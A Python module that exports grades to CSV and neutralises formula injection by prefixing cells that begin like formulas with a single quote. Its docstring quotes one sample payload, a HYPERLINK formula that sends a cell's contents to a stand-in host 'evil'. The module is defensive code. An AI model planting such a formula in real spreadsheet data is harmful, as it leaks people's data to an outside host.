"""Export of grades to files instructors open in a spreadsheet (the grades CSV).

A CSV cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is run as a
formula by Excel, LibreOffice and Google Sheets: a student name such as
``=HYPERLINK("http://evil/?"&A1, "Jane")`` would leak the sheet or run commands. Every text cell
goes through :func:`spreadsheet_safe` before it is written.
"""

from __future__ import annotations

from numbers import Number

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: object) -> str:
    """``value`` as a CSV cell that no spreadsheet runs as a formula.

    Numbers stay numbers (``-1.5`` gives ``"-1.5"``); text starting like a formula gets a single
    quote in front (``"=1+1"`` gives ``"'=1+1"``), which spreadsheets show as plain text. ``None``
    gives an empty cell.
    """
    if value is None:
        return ""
    if isinstance(value, Number):
        return str(value)
    text = str(value)
    return "'" + text if text.startswith(_FORMULA_START) else text
